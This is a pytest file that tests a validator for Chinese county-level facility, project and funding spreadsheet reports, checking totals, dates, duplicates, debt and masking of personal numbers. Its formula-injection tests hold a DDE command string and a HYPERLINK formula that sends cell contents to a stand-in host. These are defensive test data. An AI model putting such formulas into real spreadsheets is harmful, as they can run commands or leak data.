"""The judgement of records: each rule on a record that breaks it, and what becomes of record, cells and ledger."""

import pandas as pd
import pytest

from expectations.rows import judge
from tests.expectations.readings import Line, cell_of, reading, together

Frames = dict[str, pd.DataFrame]


def said(frames: Frames) -> list[tuple[str, str, str, str]]:
    found = frames["findings"]
    return list(found[["code", "outcome", "field", "cell"]].itertuples(index=False, name=None))


def statuses(frames: Frames) -> list[str]:
    return frames["records"]["status"].tolist()


def cells(frames: Frames) -> dict[str, int]:
    return frames["cells"].groupby("outcome")["cells"].sum().to_dict()


def status_of(frames: Frames, field: str) -> str:
    (status,) = frames["values"].loc[frames["values"]["field"] == field, "status"]
    return status


def test_sound_records_pass_without_a_word() -> None:
    before = reading("facilities", Line(4), Line(5, town="610622100"))
    after = judge(before)
    for name, frame in before.items():
        pd.testing.assert_frame_equal(after[name], frame)


def test_a_part_above_its_whole_rejects_the_record() -> None:
    after = judge(
        reading("facilities", Line(4, reports={"communities_gas": 29.0, "communities_total": 26.0}))
    )
    assert said(after) == [
        ("PART_EXCEEDS_TOTAL", "reject_row", "communities_gas", cell_of("facilities", "communities_gas", 4))
    ]
    message, raw = after["findings"].loc[0, ["message_zh", "raw_text"]]
    whole = cell_of("facilities", "communities_total", 4)
    assert message == f"大禹街道：通燃气小区数（29）大于居住小区总数（{whole}，26）"
    assert raw == "29"
    assert statuses(after) == ["rejected"]
    assert set(after["values"]["status"]) == {"rejected"}


def test_a_part_equal_to_its_whole_is_sound() -> None:
    assert said(judge(reading("facilities", Line(4, reports={"communities_gas": 20.0})))) == []


def test_a_part_whose_whole_is_not_reported_is_sound() -> None:
    assert said(judge(reading("facilities", Line(4, reports={"sewage_treated": 3.0})))) == []


def test_what_binary_fractions_leave_behind_is_no_excess() -> None:
    reports = {"sewage_produced": 0.3, "sewage_treated": 0.1 + 0.2}
    assert said(judge(reading("facilities", Line(4, reports=reports)))) == []


@pytest.mark.parametrize("field", ["month_investment", "fund_private", "fund_debt", "cumulative_investment"])
def test_a_negative_amount_rejects_the_record(field: str) -> None:
    after = judge(reading("projects", Line(7, key="甲项目", reports={field: -35.2})))
    assert said(after) == [("NEGATIVE_AMOUNT", "reject_row", field, cell_of("projects", field, 7))]
    assert "-35.2万元" in after["findings"].loc[0, "message_zh"]
    assert statuses(after) == ["rejected"]


def test_a_required_cell_left_blank_or_unreadable_rejects_the_record() -> None:
    blank = judge(reading("funds", Line(4, key="county", reports={"amount_planned": None})))
    assert said(blank) == [("REQUIRED_MISSING", "reject_row", "amount_planned", "B4:J4")]
    lost = judge(reading("funds", Line(4, key="county", unreadable=("amount_planned",))))
    assert said(lost) == [
        ("REQUIRED_MISSING", "reject_row", "amount_planned", cell_of("funds", "amount_planned", 4))
    ]
    assert cells(lost) == {"rejected": 5, "ignored": 7}


def test_a_required_cell_left_blank_is_told_where_the_others_of_its_column_stand() -> None:
    sound, blank = Line(4, key="county"), Line(9, key="superior", reports={"amount_planned": None})
    assert said(judge(reading("funds", sound, blank))) == [
        ("REQUIRED_MISSING", "reject_row", "amount_planned", cell_of("funds", "amount_planned", 9))
    ]


def test_an_optional_cell_left_blank_is_no_finding() -> None:
    assert said(judge(reading("projects", Line(4, key="甲项目", reports={"month_investment": None})))) == []


def test_every_reason_is_told_at_once() -> None:
    reports = {
        "communities_gas": 29.0,
        "garbage_treated": -1.0,
        "villages_total": None,
        "gas_coverage_reported": 12.0,
    }
    codes = judge(reading("facilities", Line(4, reports=reports)))["findings"]["code"].tolist()
    assert codes == ["PART_EXCEEDS_TOTAL", "RATE_DISAGREES", "NEGATIVE_AMOUNT", "REQUIRED_MISSING"]


def test_a_zero_that_cannot_be_costs_a_required_field_its_record_and_an_optional_one_its_value() -> None:
    required = judge(reading("governance", Line(4, reports={"grids_total": 0.0, "grids_staffed": 0.0})))
    assert said(required) == [
        ("REQUIRED_IS_ZERO", "reject_row", "grids_total", cell_of("governance", "grids_total", 4))
    ]
    optional = judge(reading("governance", Line(4, reports={"households_total": 0.0})))
    assert [(c, o) for c, o, *_ in said(optional)] == [("ZERO_WITHHELD", "withhold")]
    assert statuses(optional) == ["accepted"]
    assert status_of(optional, "households_total") == "withheld"


def test_a_zero_where_zero_is_an_answer_is_sound() -> None:
    reports = {"communities_total": 0.0, "communities_gas": 0.0, "gas_coverage_reported": 0.0}
    assert said(judge(reading("facilities", Line(4, reports=reports)))) == []


@pytest.mark.parametrize(
    ("rate", "is_said"), [(75.0, False), (75.5, False), (75.51, True), (74.49, True), (100.0, True)]
)
def test_a_rate_half_a_point_from_its_parts_is_told_and_the_parts_count(rate: float, is_said: bool) -> None:
    after = judge(
        reading("facilities", Line(4, reports={"gas_coverage_reported": rate}))
    )  # 15 of 20 are 75 %
    assert [code for code, *_ in said(after)] == ["RATE_DISAGREES"] * is_said
    part, whole = (cell_of("facilities", name, 4) for name in ("communities_gas", "communities_total"))
    messages = after["findings"]["message_zh"].to_list()
    assert [f"（{part}/{whole}，即75.00%）" in message for message in messages] == [True] * is_said
    assert statuses(after) == ["accepted"]


def test_debt_is_told_and_the_project_stays() -> None:
    reports = {"total_investment": 1175.0, "fund_county": 1175.0, "fund_debt": 260.0}
    after = judge(reading("projects", Line(9, key="快递物流服务中心", reports=reports)))
    assert said(after) == [("DEBT_FUNDING", "warn", "fund_debt", cell_of("projects", "fund_debt", 9))]
    assert "存在举债资金260万元" in after["findings"].loc[0, "message_zh"]
    assert statuses(after) == ["accepted"]


def test_funds_from_debt_are_told() -> None:
    after = judge(reading("funds", Line(4, key="debt", label="举债资金")))
    assert [(c, o) for c, o, *_ in said(after)] == [("DEBT_FUNDING", "warn")]
    nothing = {"amount_planned": 0.0, "amount_arrived": 0.0, "amount_spent": 0.0}
    assert said(judge(reading("funds", Line(4, key="debt", label="举债资金", reports=nothing)))) == []


def test_funds_may_fall_short_of_the_investment_but_not_exceed_it() -> None:
    short = {"total_investment": 800.0, "fund_county": 300.0, "fund_superior": 100.0}
    assert said(judge(reading("projects", Line(4, key="甲项目", reports=short)))) == []
    after = judge(reading("projects", Line(4, key="甲项目", reports=short | {"fund_private": 401.0})))
    assert [(c, o) for c, o, *_ in said(after)] == [("FUND_PARTS_EXCEED_TOTAL", "reject_row")]
    assert "801万元）大于总投资（800万元" in after["findings"].loc[0, "message_zh"]


@pytest.mark.parametrize(
    ("field", "date", "reason"),
    [
        ("start_date", "1905-07-17", "疑似将年份当作日期"),
        ("start_date", "1999-12-31", "早于2000年"),
        ("start_date", "2000-01-01", ""),
        ("planned_completion_date", "2035-03-31", ""),
        ("planned_completion_date", "2035-04-01", "比报送月份晚10年以上"),
        ("actual_completion_date", "2025-03-31", ""),
        ("actual_completion_date", "2025-04-01", "晚于报送月份（2025-03）"),
        ("actual_completion_date", "2205-03-01", "比报送月份晚10年以上"),
    ],
)
def test_a_date_that_cannot_be_is_withheld_and_the_record_stays(field: str, date: str, reason: str) -> None:
    after = judge(reading("projects", Line(5, key="甲项目", reports={field: date})))
    expected = [("DATE_OUT_OF_RANGE", "withhold", field, cell_of("projects", field, 5))] if reason else []
    assert said(after) == expected
    assert statuses(after) == ["accepted"]
    assert status_of(after, field) == ("withheld" if reason else "accepted")
    assert cells(after).get("withheld", 0) == bool(reason)
    if reason:
        assert after["findings"].loc[0, "message_zh"].endswith(f"为{date}，{reason}，该值未采用")


def test_a_completion_planned_before_the_start_is_withheld_and_the_start_stays() -> None:
    reports = {"start_date": "2025-02-10", "planned_completion_date": "2025-02-09"}
    after = judge(reading("projects", Line(5, key="甲项目", reports=reports)))
    assert [(c, f) for c, _, f, _ in said(after)] == [("DATE_OUT_OF_RANGE", "planned_completion_date")]
    start = cell_of("projects", "start_date", 5)
    assert f"早于开工时间（{start}，2025-02-10）" in after["findings"].loc[0, "message_zh"]
    assert status_of(after, "start_date") == "accepted"
    assert status_of(after, "planned_completion_date") == "withheld"


def test_a_start_that_cannot_be_says_nothing_of_the_completion() -> None:
    reports = {"start_date": "2205-02-10", "planned_completion_date": "2025-12-01"}
    after = judge(reading("projects", Line(5, key="甲项目", reports=reports)))
    assert [f for _, _, f, _ in said(after)] == ["start_date"]


def test_rules_that_need_the_period_are_skipped_where_it_is_not_known() -> None:
    lines = [
        Line(5, key="甲项目", reports={"actual_completion_date": "2031-01-01", "start_date": "1905-07-17"})
    ]
    after = judge(reading("projects", *lines, period="", county=""))
    assert [f for _, _, f, _ in said(after)] == ["start_date"]


def test_of_identical_rows_the_first_stays() -> None:
    lines = [
        Line(10, key="路面硬化项目"),
        Line(6, key="路面硬化项目"),
        Line(7, key="路面硬化项目", town="610622100"),
    ]
    after = judge(reading("projects", *lines))
    assert said(after) == [("DUPLICATE_ROW", "reject_row", "project_name", "C10")]
    assert "与C6处内容完全相同" in after["findings"].loc[0, "message_zh"]
    assert statuses(after) == ["rejected", "accepted", "accepted"]


def test_a_copy_on_another_sheet_is_told_with_the_sheet_of_the_first() -> None:
    frames = reading("projects", Line(6, key="路面硬化项目"), Line(10, key="路面硬化项目"))
    for name in ("records", "values"):
        frames[name]["sheet"] = ["续表" if r.endswith("-10") else "台账" for r in frames[name]["record_id"]]
    assert "与“台账”C6处内容完全相同" in judge(frames)["findings"].loc[0, "message_zh"]


def test_of_differing_rows_none_is_trusted() -> None:
    copies = [
        Line(row, key="公厕改造项目", reports={"total_investment": amount})
        for row, amount in ((8, 570.0), (34, 870.0))
    ]
    after = judge(reading("projects", *copies, Line(9, key="另一项目")))
    column = cell_of("projects", "total_investment", 1)[:-1]
    assert said(after) == [
        ("DUPLICATE_ROW_CONFLICT", "reject_row", "total_investment", f"{column}8"),
        ("DUPLICATE_ROW_CONFLICT", "reject_row", "total_investment", f"{column}34"),
    ]
    assert "总投资不一致" in after["findings"].loc[0, "message_zh"]
    assert statuses(after) == ["rejected", "rejected", "accepted"]


def test_two_equal_copies_and_a_different_one_are_all_refused() -> None:
    lines = [Line(4), Line(5), Line(6, reports={"town_population": 9001.0})]
    after = judge(reading("facilities", *lines))
    assert [code for code, *_ in said(after)] == ["DUPLICATE_ROW_CONFLICT"] * 3


def test_the_same_key_in_another_file_is_no_duplicate() -> None:
    both = together(
        reading("facilities", Line(4), submission="a"), reading("facilities", Line(4), submission="b")
    )
    assert said(judge(both)) == []


def test_records_without_a_town_are_no_duplicates_of_each_other() -> None:
    lines = [Line(row, town="", rejected=True) for row in (4, 5)]
    assert said(judge(reading("facilities", *lines))) == []


def test_the_same_town_recommended_as_better_and_poorer_is_refused() -> None:
    after = judge(reading("recommendations", Line(4, key="2025Q1", reports={"poorer_town": "610622001"})))
    assert [(c, o) for c, o, *_ in said(after)] == [("SAME_TOWN_TWICE", "reject_row")]
    assert "大禹街道" in after["findings"].loc[0, "message_zh"]


def test_a_recommended_town_of_another_county_is_refused() -> None:
    after = judge(reading("recommendations", Line(4, key="2025Q1", reports={"poorer_town": "610621001"})))
    assert [(c, o, f) for c, o, f, _ in said(after)] == [
        ("TOWN_OF_OTHER_COUNTY", "reject_row", "poorer_town")
    ]


@pytest.mark.parametrize("text", ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+A1*2", "-A1"])
def test_text_that_begins_like_a_formula_is_told_and_kept(text: str) -> None:
    after = judge(reading("projects", Line(7, key="甲项目", reports={"progress_note": text})))
    assert said(after) == [
        ("FORMULA_LIKE_TEXT", "warn", "progress_note", cell_of("projects", "progress_note", 7))
    ]
    assert statuses(after) == ["accepted"]


@pytest.mark.parametrize("text", ["-", "-3.5%", "+86 0911-2110000", "受降雨影响", "1=1", "--"])
def test_other_text_is_no_formula(text: str) -> None:
    assert said(judge(reading("projects", Line(7, key="甲项目", reports={"progress_note": text})))) == []


def test_a_project_named_like_a_formula_is_told_at_the_cell_of_its_name() -> None:
    name = '=HYPERLINK("http://example.invalid/?d="&A1,"查看详情")'
    after = judge(reading("projects", Line(5, key=name.replace(" ", ""), label=name)))
    assert said(after) == [("FORMULA_LIKE_TEXT", "warn", "project_name", "C5")]


def test_an_identity_number_in_a_note_is_told_and_masked_everywhere() -> None:
    note = "拆迁户王某(身份证号610622190001016376)未签协议"
    after = judge(reading("projects", Line(10, key="甲项目", reports={"problem_note": note})))
    assert said(after) == [("PERSONAL_DATA", "warn", "problem_note", cell_of("projects", "problem_note", 10))]
    assert "存在问题中含身份证号码，已遮蔽" in after["findings"].loc[0, "message_zh"]
    assert statuses(after) == ["accepted"]
    assert not any(
        frame[column].astype(str).str.contains("610622190001016376").any()
        for frame in after.values()
        for column in frame.columns
    )
    (kept,) = after["values"].loc[after["values"]["field"] == "problem_note", "value_text"]
    assert kept == "拆迁户王某(身份证号******)未签协议"


def test_contact_persons_and_phones_are_no_finding_in_their_own_columns_and_stay_there() -> None:
    reports = {"contact_person": "王某", "contact_phone": "13800025641"}
    after = judge(reading("projects", Line(10, key="甲项目", reports=reports)))
    assert said(after) == []
    assert {"王某", "13800025641"} <= set(after["values"]["value_text"].dropna())


@pytest.mark.parametrize(
    ("note", "kept", "kind"),
    [
        ("请联系138 0002 5641", "请联系******", "手机号码"),
        ("请联系１３８００025641", "请联系******", "手机号码"),
        ("身份证610622 19000101 637X号", "身份证******号", "身份证号码"),
        ("身份证610622190013016376号", "身份证******号", "银行卡号码"),  # no thirteenth month: in doubt
        ("合同编号2501-610602-04-01-123456", "", ""),
        ("总机0911-2110000", "", ""),
        ("投资12345678901元", "", ""),
    ],
)
def test_numbers_of_persons_are_told_from_other_numbers(note: str, kept: str, kind: str) -> None:
    after = judge(reading("projects", Line(10, key="甲项目", reports={"problem_note": note})))
    assert [message.split("中含")[1].split("，")[0] for message in after["findings"]["message_zh"]] == [
        kind
    ] * bool(kind)
    (text,) = after["values"].loc[after["values"]["field"] == "problem_note", "value_text"]
    assert text == (kept or note)


def test_cells_move_with_their_record_and_nothing_is_lost() -> None:
    before = reading("facilities", Line(4, reports={"communities_gas": 21.0}), Line(5, town="610622100"))
    after = judge(before)
    assert cells(before) == {"accepted": 18, "ignored": 7}  # eight values and the town, twice
    assert cells(after) == {"accepted": 9, "rejected": 9, "ignored": 7}


def test_a_cell_that_records_share_counts_as_accepted_as_long_as_one_is() -> None:
    before = reading("funds", Line(4, key="county"), Line(5, key="superior", reports={"amount_spent": 999.0}))
    before["records"]["key_cells"] = ["B4,C4", "B4,C5"]
    before["cells"].loc[before["cells"]["outcome"] == "accepted", "cells"] -= 1
    after = judge(before)
    assert cells(after) == {"accepted": 5, "rejected": 4, "ignored": 7}


def test_a_ledger_says_what_became_of_its_records() -> None:
    sound, broken = Line(4), Line(5, town="610622100", reports={"communities_gas": 21.0})
    kept = judge(reading("facilities", sound, broken))["ledgers"]
    assert kept.loc[0, ["disposition", "records_accepted", "records_rejected"]].tolist() == [
        "accepted_with_findings",
        1,
        1,
    ]
    lost = judge(reading("facilities", broken))["ledgers"]
    assert lost.loc[0, ["disposition", "records_accepted", "records_rejected"]].tolist() == ["rejected", 0, 1]


def test_a_ledger_refused_as_a_whole_stays_refused_and_its_rows_are_not_judged() -> None:
    before = reading("facilities", Line(4, reports={"communities_gas": 21.0}, rejected=True))
    before["ledgers"]["disposition"] = "rejected"
    after = judge(before)
    assert said(after) == []
    assert after["ledgers"].loc[0, "disposition"] == "rejected"


def test_findings_are_numbered_on_from_those_of_the_reading() -> None:
    before = reading("facilities", Line(4, reports={"communities_gas": 21.0}))
    earlier = judge(before)["findings"].assign(
        finding_no=[3], code=["UNKNOWN_COLUMN"], outcome=["warn"], record_id=[""]
    )
    after = judge({**before, "findings": earlier.astype(before["findings"].dtypes)})["findings"]
    assert after[["finding_no", "code"]].to_numpy().tolist() == [
        [3, "UNKNOWN_COLUMN"],
        [4, "PART_EXCEEDS_TOTAL"],
    ]


def test_no_readings_at_all_are_judged_to_nothing() -> None:
    empty = {name: frame.iloc[:0] for name, frame in reading("facilities", Line(4)).items()}
    assert all(frame.empty for frame in judge(empty).values())


def test_a_value_outside_its_code_list_is_a_bug_and_no_finding() -> None:
    from pandera.errors import SchemaErrors

    with pytest.raises(SchemaErrors):
        judge(reading("projects", Line(4, key="甲项目", reports={"status": "在建"})))
